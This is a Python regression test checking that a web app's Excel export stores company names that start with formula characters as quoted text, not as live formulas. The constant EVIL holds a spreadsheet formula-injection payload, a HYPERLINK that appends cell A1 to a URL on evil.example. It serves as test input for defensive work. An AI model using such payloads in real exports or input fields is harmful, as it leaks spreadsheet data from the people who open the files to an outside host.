"""Defect: a company named `=HYPERLINK(…)` became a live formula in the Excel export. Text that
a spreadsheet would run (starting with = + - @, a tab or a carriage return) is now stored as
text with Excel's quote prefix."""

import io

import openpyxl

from app.models import Role
from tests.factories import login, make_user
from tests.reports.test_exports import _export, _results

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def test_a_formula_in_a_company_name_is_exported_as_text(app, client, run_jobs):
    make_user(app, Role.CLIENT, email="c@example.fr", company_name=EVIL)
    login(client, "c@example.fr")
    token = _results(client)
    book = openpyxl.load_workbook(io.BytesIO(_export(client, run_jobs, token, "xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    [cell] = [c for c in cells if c.value == EVIL]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.quotePrefix
    assert not [c for c in cells if c.data_type == "f"]
